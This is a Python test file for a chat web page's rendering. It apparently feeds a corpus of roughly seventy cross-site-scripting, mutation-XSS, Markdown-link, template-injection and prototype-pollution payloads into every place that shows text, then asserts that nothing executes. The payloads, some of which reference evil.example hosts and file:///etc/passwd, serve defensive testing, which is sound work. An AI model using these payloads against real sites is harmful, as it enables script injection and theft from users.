"""Strangers write into this page: models, tools, networks, whoever sent a mail that is summed up. None of it may become code.

Each text of the corpus is put into every place that shows text. Whether a script ran is seen four ways: a call of `pwned()`, a
dialog, a refusal by the Content-Security-Policy (the page must not need it), and what the DOM holds afterwards.
"""

from __future__ import annotations

import json
from collections.abc import Awaitable, Callable

import pytest
import trio

from tests.page.browser import PATIENCE_S, Page
from tests.page.server import Frame, Gateway

CORPUS = [
    # elements that run or load
    "<script>pwned(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</script><script>pwned(2)</script>",
    "<img src=x onerror=pwned(3)>",
    "<img src=x onerror=&#112;&#119;&#110;&#101;&#100;&#40;4&#41;>",
    "<body onload=pwned(5)>",
    "<iframe srcdoc='<script>parent.pwned(6)</script>'></iframe>",
    "<iframe src=javascript:pwned(7)></iframe>",
    "<object data=javascript:pwned(8)></object><embed src=javascript:pwned(8)>",
    "<details open ontoggle=pwned(9)><summary>x</summary></details>",
    "<input autofocus onfocus=pwned(10)>",
    "<video><source onerror=pwned(11)></video>",
    "<marquee onstart=pwned(12)>x</marquee>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned(13)'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css><style>*{background:url(//evil.example/)}</style>",
    "<form action=javascript:pwned(14)><button>go</button></form>",
    "<template shadowrootmode=open><script>pwned(15)</script></template>",
    # SVG, MathML, and what parsers make of them
    "<svg onload=pwned(16)>",
    "<svg><animate onbegin=pwned(17) attributeName=x dur=1s></svg>",
    "<svg><a xlink:href=javascript:pwned(18)><text y=20>x</text></a></svg>",
    "<svg><style><img src=x onerror=pwned(19)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=pwned(20)>'>",
    "<math href=javascript:pwned(21)>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=pwned(22)>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=pwned(23) src>'>",
    "<!--><img src=x onerror=pwned(24)>-->",
    "<![CDATA[<img src=x onerror=pwned(25)>]]>",
    "<x/onclick=pwned(26)//<b",
    "<<img src=x onerror=pwned(27)//",
    # links of Markdown
    "[x](javascript:pwned(30))",
    "[x](JaVaScRiPt:pwned(31))",
    "[x](java\tscript:pwned(32))",
    "[x](java&#10;script:pwned(33))",
    "[x](<javascript:pwned(34)>)",
    "[x](\x01javascript:pwned(35))",
    "[x]( javascript:pwned(36) \"t\")",
    "[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:pwned(37)) [y](file:///etc/passwd) [z](blob:https://evil.example/x)",
    "[x](//evil.example/x) [y](/restart) [z](#token=evil)",
    "![x](javascript:pwned(38)) ![x](data:image/svg+xml,<svg/onload=pwned(38)>)",
    "![x](https://evil.example/x.png\"onerror=\"pwned(39))",
    "[x](https://a.example/\" onmouseover=\"pwned(40))",
    "[x](https://a.example/'onclick='pwned(41))",
    "[<img src=x onerror=pwned(42)>](https://a.example/)",
    "[a](https://a.example \"</a><script>pwned(43)</script>\")",
    "<javascript:pwned(44)> <https://a.example/\"onclick=pwned(44)>",
    "https://a.example/\"onmouseover=\"pwned(45)",
    "https://a.example/<script>pwned(46)</script>",
    "javascript:pwned(47) javascript://a.example/%0Apwned(47)",
    "[x]: javascript:pwned(48)\n\n[x]",
    "[[x](javascript:pwned(49))](https://a.example/)",
    # other Markdown
    "```\" onmouseover=pwned(50) class=\"x\n<script>pwned(50)</script>\n```",
    "````\n```\n</code></pre><script>pwned(51)</script>\n```\n````",
    "`<img src=x onerror=pwned(52)>` ``` `</code><script>pwned(52)</script>` ```",
    "| <img src=x onerror=pwned(53)> |\n|-|\n| </td><script>pwned(53)</script> |",
    "# <script>pwned(54)</script>\n> <script>pwned(54)</script>\n- <script>pwned(54)</script>",
    "**<b onmouseover=pwned(55)>**<scr*i*pt>pwned(55)</scr*i*pt>",
    "1<script>pwned(56)</script>. a\n999999999. b",
    # entities, encodings, templates, names
    "&lt;script&gt;pwned(60)&lt;/script&gt; &#x3c;img src=x onerror=pwned(60)&#x3e;",
    "%3Cscript%3Epwned(61)%3C/script%3E \\u003cscript\\u003epwned(61)\\u003c/script\\u003e",
    "\uff1cscript\uff1epwned(62)\uff1c/script\uff1e \u2028<script>\u2029pwned(62)</script>",
    "+ADw-script+AD4-pwned(63)+ADw-/script+AD4-",
    "\u202e<script>pwned(64)</script>\u202c \u2066[x](javascript:pwned(64))\u2069",
    "\x00<scr\x00ipt>pwned(65)</scr\x00ipt>\ufeff\ufffe\ud800",
    "{{constructor.constructor('pwned(66)')()}} ${pwned(66)} <%= pwned(66) %> #{pwned(66)} $& $' $1",
    "');pwned(67);//  \";pwned(67);//  */pwned(67);/*  -->pwned(67)",
    "__proto__", "constructor", "toString", "hasOwnProperty", "../../x?y#z",
]  # fmt: skip

ALLOWED = {
    "tags": """A ARTICLE B BLOCKQUOTE BR BUTTON CODE DEL DETAILS DIV EM FOOTER H3 H4 H5 H6 HR I LI OL P PRE SPAN STRONG SUMMARY
        TABLE TBODY TD TH THEAD TIME TR UL""",
    "attributes": """aria-busy aria-current aria-hidden aria-label aria-pressed class data-name data-phase data-since data-state
        data-until datetime href open rel role start tabindex target title type""",
    "classes": """body bot choices code detail error failed files label language line middle more note restarts right spoken table
        title tools when word you""",
    "protocols": "http: https: mailto:",
}
"""All that this page makes itself."""
MADE = """["entries", "sessions", "nodes"].flatMap((id) => [...document.getElementById(id).querySelectorAll("*")]).map((node) =>
  [node.tagName, Object.fromEntries([...node.attributes].map(({ name, value }) => [name, value])), node.protocol ?? ""])"""
POLLUTED = "Object.keys(Object.prototype).length + Object.keys({}).length"


async def look(page: Page, what: str) -> None:
    """Nothing ran, and what is there is nothing but what this page makes itself."""
    elements = await page.value(MADE)
    attributes = [attribute for _, named, _ in elements for attribute in named.items()]
    links = [(named, protocol) for tag, named, protocol in elements if tag == "A"]
    found = {
        "tags": {tag for tag, _, _ in elements},
        "attributes": {name for name, _ in attributes},
        "classes": {word for name, value in attributes if name == "class" for word in value.split()},
        "protocols": {protocol for _, protocol in links},
    }
    assert [some - set(ALLOWED[kind].split()) for kind, some in found.items()] == [set()] * len(ALLOWED), what
    assert all(link["title"] == link["href"] and link["rel"] == "noopener noreferrer" for link, _ in links), what
    assert await page.value(POLLUTED) == 0, what
    assert page.problems == [], what


async def mark(page: Page, fake: Gateway, chat: str) -> None:
    """Wait until everything that was sent before has been shown."""
    number = str(len(fake.heard))
    await fake.tell({"type": "error", "code": "mark", "reason": f"Mark {number}"})
    await page.until(f"document.querySelector('#entries').lastChild?.innerText.includes('Mark {number}')")


Place = Callable[[Page, Gateway, str, str], Awaitable[None]]


def frames(make: Callable[[str, str, int], list[Frame]]) -> Place:
    """A place that frames reach: `make(text, chat, number)`."""

    async def put(page: Page, fake: Gateway, text: str, chat: str) -> None:
        await fake.tell(*make(text, chat, CORPUS.index(text)))
        await mark(page, fake, chat)

    return put


def message(text: str, chat: str, number: int) -> list[Frame]:
    said = {"type": "message", "id": f"{chat}/{number}", "chat": chat, "alsoAnswers": [text], "replyTo": None}
    return [{**said, "text": text, "failed": bool(number % 2), "media": [{"name": text, "mime": text}]}]


def tool(text: str, chat: str, number: int) -> list[Frame]:
    used = {"type": "tool", "chat": chat, "turn": 1}
    return [{**used, "name": text, "phase": "started"}, {**used, "name": "x", "phase": text}]


def state(text: str, chat: str, number: int) -> list[Frame]:
    return [{"type": "state", "chat": chat, "state": text}, {"type": "state", "chat": chat, "state": "working", "tool": text}]


def history(text: str, chat: str, number: int) -> list[Frame]:
    said = {"n": number, "text": text, "replyTo": text}
    items = [{**said, "role": role, "id": f"{text}{role}"} for role in ("you", "bot", "note", text)]
    return [{"type": "history", "chat": chat, "items": items}]


def question(text: str, chat: str, number: int) -> list[Frame]:
    asked = {"text": text, "buttons": [{"label": text, "says": text}, {"label": "No", "says": f"no {number}"}]}
    elsewhere = {**asked, "buttons": [{"label": text, "says": f"{text} elsewhere"}]}
    said: Frame = {"type": "message", "id": f"{chat}/{number}", "chat": chat, "alsoAnswers": [], "replyTo": None}
    return [{**said, **asked}, {"type": "history", "chat": chat, "items": [], "questions": [asked, elsewhere]}]


async def titles(page: Page, fake: Gateway, text: str, chat: str) -> None:
    fake.sessions = [{"key": text, "chat": text, "title": text, "at": 1_700_000_000, "unfinished": True}]
    await fake.tell({"type": "accepted", "id": text})
    await page.until(f"document.querySelector('#sessions .title')?.textContent === {json.dumps(text)}")


async def own_words(page: Page, fake: Gateway, text: str, chat: str) -> None:
    await page.value(f"document.querySelector('#text').value = {json.dumps(text)}; document.querySelector('#send').click()")
    await page.until("document.querySelector('.you:last-child footer')?.innerText.includes('on disk')")


PLACES: dict[str, Place] = {
    "message": frames(message),
    "delta": frames(lambda text, chat, n: [{"type": "delta", "chat": chat, "turn": n, "text": text}]),
    "tool": frames(tool),
    "state": frames(state),
    "error": frames(lambda text, chat, _: [{"type": "error", "code": text, "reason": text}]),
    "history": frames(history),
    "question": frames(question),
    "frame": frames(lambda text, chat, _: [{"type": text, "chat": chat, "id": text, "text": text}]),
    "title": titles,
    "own words": own_words,
}


@pytest.mark.parametrize("place", PLACES)
async def test_no_text_becomes_code(page: Page, fake: Gateway, place: str) -> None:
    chat = (await fake.until("open"))[-1]["chat"]
    for text in CORPUS:
        await PLACES[place](page, fake, text, chat)
        await look(page, text)
    await page.value("document.querySelectorAll('#entries a').forEach((a) => a.dispatchEvent(new MouseEvent('mouseover')))")
    await look(page, "the pointer over all links")


async def test_no_text_of_the_tree_becomes_code(page: Page, fake: Gateway) -> None:
    words = [{"name": t, "kind": t, "state": t, "error": t, "waiting": t, "facts": {t: t}} for t in CORPUS]
    fake.tree["children"] = [node | dict.fromkeys(("since", "until", "restarts"), node["name"]) for node in words]
    fake.tree["state"] = "parked"
    await page.until_text("#nodes", f"and {len(CORPUS) - 40} more")
    await look(page, "tree")
    fake.tree["children"].reverse()
    await page.until_text("#nodes", "__proto__")
    await look(page, "tree")


@pytest.mark.parametrize("chat", ["__proto__", "constructor", "<img src=x onerror=pwned(1)>", "../../x?y#z"])
async def test_a_chat_may_have_any_name(page: Page, fake: Gateway, chat: str) -> None:
    fake.sessions = [{"key": f"web:{chat}", "chat": chat, "title": "x", "at": 1_700_000_000, "unfinished": False}]
    await fake.tell({"type": "message", "id": f"{chat}/o1", "chat": chat, "replyTo": None, "alsoAnswers": [], "text": "news"})
    await page.until_text("#sessions", "new answer")
    await page.click("#sessions button")
    await page.until_text(".bot", "news")
    assert (await fake.until("ack"))[0]["id"] == f"{chat}/o1"
    await look(page, chat)


async def test_the_instruments_see_what_they_should(page: Page) -> None:
    made = '<img src=x onerror="pwned(1)"><a href="javascript:x">x</a>'
    await page.value(f"document.querySelector('#entries').innerHTML = {json.dumps(made)}")
    with pytest.raises(AssertionError):
        await look(page, "an element, an attribute and a link of strangers")
    await page.value("pwned('called'); setTimeout(() => alert('dialog'))")
    with trio.fail_after(PATIENCE_S):
        while len(page.problems) < 3:  # noqa: ASYNC110  # set by the task that reads the browser's events
            await trio.sleep(0.005)
    ran, dialog, refused = sorted(page.problems)
    assert (ran, dialog) == ("a script of strangers ran: called", "dialog: dialog")
    assert "Content Security Policy" in refused
    page.problems.clear()
